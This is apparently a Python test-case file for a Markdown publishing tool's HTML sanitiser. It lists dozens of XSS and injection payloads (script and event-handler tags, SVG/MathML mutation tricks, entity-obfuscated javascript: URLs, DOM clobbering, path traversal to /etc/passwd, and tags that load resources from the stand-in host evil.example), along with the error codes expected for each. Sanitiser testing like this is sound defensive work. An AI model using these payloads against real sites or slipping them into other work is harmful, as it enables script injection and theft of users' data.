# ruff: noqa: E501 - inputs stand one a line, however long
"""Script and markup in every field and every corner of a body."""

from __future__ import annotations

from dataclasses import dataclass

from .site_maker import article

PAYLOADS = {
    "img": "<img src=x onerror=pwn()>",
    "script": "</script><script>pwn()</script>",
    "attribute": "\"'><svg/onload=pwn()>",
    "comment": "--><!--<script>",
    "cdata": "]]><x>&lt;&amp;&#60;",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "prototype": "__proto__ constructor toString",
    "entity": "&quot;&gt;&lt;script&gt;&#x26;",
    "backslash": "\\u003cscript\\u003e\\x3c\\\\",
}
"""Texts that end a string, an attribute, an element or a block somewhere."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """One article, and what must come of it."""

    name: str
    text: str | bytes
    code: str = ""
    """A code that must be among the problems; empty: it must be published whole."""


_FIELDS = {
    "title": "{}", "kicker": "{}", "subtitle": "{}", "summary": "{}", "source": "{}",
    "based_on": "{}", "cover_alt": "{}",
}  # fmt: skip
_NAMES = ("author", "photographer", "editor")


def _field_cases() -> list[Case]:
    cases = [
        Case(name=f"{field} {name}", text=article("", **{field: f"词{payload}"}))
        for field in _FIELDS
        for name, payload in PAYLOADS.items()
    ]
    cases += [
        Case(name=f"{field} {name}", text=article("", **{field: [f"词{payload}"]}))
        for field in _NAMES
        for name, payload in PAYLOADS.items()
        if name in ("img", "attribute", "prototype")
    ]
    figures = [{"label": PAYLOADS["img"], "text": '3<svg onload="pwn()">'}]
    cases += [
        Case(name="figure label and text", text=article(highlights=[{"figures": figures}])),
        Case(
            name="highlight heading",
            text=article(
                "## 做法<img src=x onerror=pwn()>一 {: onclick=pwn() }",
                highlights=[{"heading": "做法一 {: onclick=pwn() }"}],
            ),
        ),
        Case(
            name="highlight heading with entities",
            text=article(
                "## &lt;script&gt;pwn()&lt;/script&gt;",
                highlights=[{"heading": "<script>pwn()</script>"}],
            ),
        ),
        *(
            Case(name=f"highlight id {one}", text=article(highlights=[{"id": one}]), code="A215")
            for one in ("__config", "__palette", "__search", "zb-main", "a b", '"onclick', "Ａ")
        ),
        *(
            Case(name=f"source_url {url[:14]!r}", text=article(source="报", source_url=url),
                 code="A214")
            for url in ("javascript:pwn()", "data:text/html,x", " javascript:pwn()", "//evil.example",
                        'https://a.example/"onclick=pwn()', "https://a.example/<script>",
                        "jAvAsCrIpT:pwn()", "https:pwn", "http://[::1", "vbscript:pwn")
        ),
        Case(
            name="source_url with quotes",
            text=article(source="报", source_url="https://a.example/'onclick='pwn()?a=1&b=2"),
        ),
    ]  # fmt: skip
    return cases


_MARKUP = {
    "script": "<script>pwn()</script>",
    "script with src": "<script src=https://evil.example/x.js></script>",
    "upper-case script": "<SCRIPT>pwn()</SCRIPT >",
    "script with slash": "<script/x>pwn()</script>",
    "nested script": "<scr<script>ipt>pwn()</scr</script>ipt>",
    "svg onload": "<svg onload=pwn()><circle r=1 /></svg>",
    "svg slash onload": "<svg/onload=pwn()>",
    "svg script": "<svg><script>pwn()</script></svg>",
    "svg animate": "<svg><a><animate attributeName=href values=javascript:pwn() /><text>点</text></a></svg>",
    "svg foreignObject": "<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>",
    "svg use data": "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn()>#x' /></svg>",
    "svg style confusion": '<svg></p><style><a id="</style><img src=1 onerror=pwn()>"></style></svg>',
    "math confusion": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
    "math annotation": "<math><annotation-xml encoding='text/html'><script>pwn()</script></annotation-xml></math>",
    "math href": "<math href='javascript:pwn()'>点</math>",
    "template": "<template><script>pwn()</script></template>",
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=pwn()>"></noscript>',
    "style": "<style>*{background:url(https://evil.example/x)}</style>",
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "iframe": "<iframe src=javascript:pwn()></iframe>",
    "iframe srcdoc": "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "object": "<object data=javascript:pwn()></object>",
    "embed": "<embed src=javascript:pwn()>",
    "form": "<form action=https://evil.example/><input name=x><button>交</button></form>",
    "autofocus": "<input autofocus onfocus=pwn()>",
    "formaction": "<button formaction=javascript:pwn()>按</button>",
    "clobbering form": "<form id=__config><input name=base></form><img name=cookie src=x>",
    "base": "<base href=https://evil.example/>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "video": "<video src=x onerror=pwn()><source onerror=pwn()></video>",
    "details": "<details open ontoggle=pwn()><summary>点</summary>文</details>",
    "marquee": "<marquee onstart=pwn()>文</marquee>",
    "body": "<body onload=pwn()>",
    "html": "<html onclick=pwn()><head><title>x</title></head>",
    "frameset": "<frameset onload=pwn()><frame src=javascript:pwn()></frameset>",
    "isindex": "<isindex action=javascript:pwn() type=image>",
    "select": "<select><style></select><img src=x onerror=pwn()></style>",
    "dialog": "<dialog open onclose=pwn()>文</dialog>",
    "portal": "<portal src=https://evil.example/></portal>",
    "custom element": "<x-y onfocus=pwn() tabindex=0 autofocus>文</x-y>",
    "on without space": "<p/onclick=pwn()>文</p>",
    "on in capitals": "<P OnClIcK=pwn()>文</P>",
    "on after newline": "<p\nonmouseover\n=\npwn()>文</p>",
    "on after quote": '<p title="x"onclick=pwn()>文</p>',
    "style attribute": "<p style='background:url(javascript:pwn())'>文</p>",
    "position": "<div style='position:fixed;inset:0'>盖住</div>",
    "class of ours": "<div class='z-header md-overlay' id=__config>文</div>",
    "data attribute": "<div data-md-component=header data-tools data-article-id=x>文</div>",
    "duplicate ids": '<a id="zb-main">文</a><li id="zb-main">',
    "table in p": "<p><table><tr><td><p></table><b>",
    "closing tags": "</div></article></main></body></html>",
    "closing section": "</section></div></div>",
    "unclosed attribute": '<a href="https://a.example/',
    "unclosed tag": "<b",
    "null tag": "<\u3000script>pwn()</script>",
    "processing instruction": "<?xml version='1.0'?><?php pwn() ?>",
    "cdata": "<![CDATA[<script>pwn()</script>]]>",
    "conditional comment": "<!--[if IE]><script>pwn()</script><![endif]-->",
    "declaration": "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "bogus comment": "<!x><script>pwn()</script>",
    "comment with dashes": "<!--> <img src=x onerror=pwn()> -->",
    "attribute list": "一段话。\n{: onclick=pwn() style=color:red }",
    "attribute list on a link": "[点](https://a.example/){: onclick=pwn() target=_blank }",
    "heading list": "## 做法 {#__config onclick=pwn()}",
    "fence info": "```js\" onclick=\"pwn()\nlet x\n```",
    "fence attributes": "```{ .js onclick=pwn() style=x id=__config }\nlet x\n```",
    "fence with markup": "```\n</code></pre><script>pwn()</script>\n```",
    "tilde fence": "~~~ {onclick=pwn()}\n<script>pwn()</script>\n~~~",
    "inline code": "`</code><script>pwn()</script>`",
    "footnote name": '文[^"onclick=pwn()].\n\n[^"onclick=pwn()]: 注',
    "footnote with markup": "文[^a]。\n\n[^a]: <img src=x onerror=pwn()>注",
    "footnote clobbering": "文[^__config]。\n\n[^__config]: 注",
    "footnote named like a prototype": "文[^__proto__]，[^constructor]。\n\n[^__proto__]: 甲\n[^constructor]: 乙",
    "link title": "[点](https://a.example/ '\"onmouseover=pwn()')",
    "link title with a tag": '[点](https://a.example/ "<script>pwn()</script>")',
    "link text": "[<img src=x onerror=pwn()>](https://a.example/)",
    "quotes in an address": '[点](https://a.example/"onclick="pwn())',
    "angle address": "[点](<https://a.example/ onclick=pwn()>)",
    "autolink": "<https://a.example/?\"onclick=pwn()>",
    "mail": "<pwn@a.example>，<mailto:a@b.example?subject=x>",
    "markdown placeholder": "\u0002wzxhzdk:0\u0003"[1:-1] + " klzzwxh:0001",
    "template code": "{{ config.site_name }} {% include 'x' %} {# x #}",
    "mkdocs metadata": "template: evil.html\nhide: navigation",
    "heading like our ids": "## zb main\n\n文\n\n## zb contents\n\n文",
    "heading like a prototype": "## constructor\n\n文\n\n## __proto__\n\n文\n\n## location",
    "abbreviation": "*[HTML]: <script>pwn()</script>\n\nHTML",
    "table cells": "| <script>pwn()</script> | b |\n|---|---|\n| <img src=x onerror=pwn()> | `|` |",
    "definition": "词\n:   <svg onload=pwn()>",
    "deep ruby": "<ruby>字<rt onclick=pwn()>音</rt></ruby>",
    "bidi": "文\u202e<script>\u202c字\u2066隐\u2069",
    "plus in entity": "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "our token in a title": '[点](https://a.example/ \'href="zhibu:site:x"\')',
    "our token as text": '&lt;a href="zhibu:article:2024/x"> zhibu:file:../../etc/passwd',
    "table tag in a title": '[点](https://a.example/ "<table> onmouseover=pwn()")',
    "closing comment in a title": '[点](https://a.example/ "--> <!--")',
    "highlight container": "<div class=footnote><ol><li id=fn:1>假</li></ol></div>",
}  # fmt: skip
"""Nothing in these may run, and nothing after them may be lost."""

_REFUSED = {
    "svg use data": "A306", "svg style confusion": "A309", "math confusion": "A319",
    "math href": "A306", "noscript title": "A309", "iframe": "A306", "embed": "A306",
    "clobbering form": "A309", "video": "A301", "frameset": "A318", "comment with dashes": "A309",
    "footnote with markup": "A309", "link text": "A309", "table cells": "A309", "bidi": "A319",
    "our token in a title": "A306", "our token as text": "A306",
    **dict.fromkeys(
        ("plaintext", "textarea", "title", "xmp", "noembed", "unclosed-script", "unclosed-style",
         "unclosed-iframe", "unclosed-noscript"),
        "A319",
    ),
}  # fmt: skip
"""Those of the above and below that cannot be published, with the reason that staff are told."""

_OPENED = {
    "plaintext": "<plaintext>",
    "textarea": "<textarea>",
    "title": "<title>",
    "xmp": "<xmp>",
    "noembed": "<noembed>",
    "unclosed-script": "<script>",
    "unclosed-style": "<style>",
    "unclosed-iframe": "<iframe>",
    "unclosed-comment": "<!-- 待核实",
    "unclosed-svg-style": "<svg><style>",
    "unclosed-noscript": "<noscript>",
    "unclosed-cdata": "<![CDATA[ x",
    "unclosed-select": "<select>",
}
"""Elements that swallow what follows; the text after them must stay or be reported."""

_ADDRESSES = {
    "javascript": "javascript:pwn()",
    "mixed case": "JaVaScRiPt:pwn()",
    "decimal entity": "&#106;avascript:pwn()",
    "hex entity": "&#x6A;avascript:pwn()",
    "padded entity": "&#0000106avascript:pwn()",
    "named colon": "javascript&colon;pwn()",
    "entity tab": "java&#9;script:pwn()",
    "named tab": "java&Tab;script:pwn()",
    "entity newline": "java&NewLine;script:pwn()",
    "leading entity": "&#1;javascript:pwn()",
    "vbscript": "vbscript:msgbox(1)",
    "data html": "data:text/html,<script>pwn()</script>",
    "data svg": "data:image/svg+xml;base64,PHN2Zz4=",
    "file": "file:///etc/passwd",
    "blob": "blob:https://a.example/x",
    "view-source": "view-source:https://a.example/",
    "feed": "feed:javascript:pwn()",
    "ftp": "ftp://a.example/x",
    "our token": "zhibu:file:../../etc/passwd",
    "protocol-relative": "//evil.example/x",
    "backslashes": "\\\\evil.example/x",
    "slash and backslash": "/\\evil.example/x",
    "no host": "https:evil.example",
    "one slash": "https:/evil.example",
    "broken host": "https://[::1",
    "empty": "",
    "lone hash": "#",
    "climbing": "../../../etc/passwd",
    "encoded climbing": "%2e%2e/%2e%2e/%2e%2e/etc/passwd.pdf",
    "encoded slash climbing": "..%2f..%2f..%2fx.pdf",
    "absolute file": "/etc/passwd",
    "html beside": "evil.html",
    "script beside": "evil.js",
    "config": "../../mkdocs.yml",
    "registry": "../themes.yml",
    "null": "a%00.pdf",
}


def _address_cases() -> list[Case]:
    # Cleaning takes a forbidden address from raw HTML without a word; the text stays.
    link = [
        Case(name=f"link {name}", text=article(f"[点这里]({address})"), code="A30 A31")
        for name, address in _ADDRESSES.items()
    ]
    raw = [
        Case(name=f"raw link {name}", text=article(f'<a href="{address}">点这里</a>'), code="?")
        for name, address in _ADDRESSES.items()
    ]
    reference = [
        Case(name=f"reference {name}", text=article(f"[点这里][r]\n\n[r]: {address}"), code="?")
        for name, address in _ADDRESSES.items()
        if address
    ]
    image = [
        Case(name=f"image {name}", text=article(f"![图]({address})"), code="A30 A31")
        for name, address in _ADDRESSES.items()
        if name not in ("empty", "lone hash")
    ]
    raw_image = {
        "srcset": "<img srcset='https://evil.example/x 1x' alt=图>",
        "onerror": "<img src=x.png onerror=pwn() alt=图>",
        "external": "<img src=https://evil.example/x.png alt=图>",
        "loopback": "<img src=http://127.0.0.1:9/x.png alt=图>",
        "lowsrc": "<img lowsrc=javascript:pwn() dynsrc=javascript:pwn() alt=图>",
        "image tag": "<image src=x onerror=pwn()>",
        "alt": "<img alt='\"onerror=pwn()'>",
    }
    images = [
        Case(name=f"raw image {name}", text=article(markup), code="?")
        for name, markup in raw_image.items()
    ]
    return [*link, *raw, *reference, *image, *images]


_CONTROLS = {
    "U+0008": "文&#8;字", "U+000B": "文&#xB;字", "form feed": "文&#12;字", "U+FFFE": "文&#xFFFE;字",
    "U+001B": "## 标题&#x1b;[31m\n\n文", "U+007F": "![图&#127;](https://a.example/x)",
}  # fmt: skip
_HARMLESS = {
    "NUL": "文&#0;字", "surrogate": "文&#xD800;字", "too large": "文&#x110000;字&#99999999999;",
    "windows-1252": "文&#128;字", "in code": "`文&#8;字`", "bidi": "文&#x202E;字",
    "in a fence": "```\n&#8;\n```",
}  # fmt: skip

CASES: list[Case] = [
    *(Case(name=f"reference to {name}", text=article(body), code="A004")
      for name, body in _CONTROLS.items()),
    *(Case(name=f"reference {name}", text=article(body)) for name, body in _HARMLESS.items()),
    *_field_cases(),
    *(
        Case(name=f"markup {name}", text=article(markup), code=_REFUSED.get(name, ""))
        for name, markup in _MARKUP.items()
    ),
    *(
        Case(name=f"opened {name}", text=article(markup), code=_REFUSED.get(name, ""))
        for name, markup in _OPENED.items()
    ),
    *_address_cases(),
]  # fmt: skip
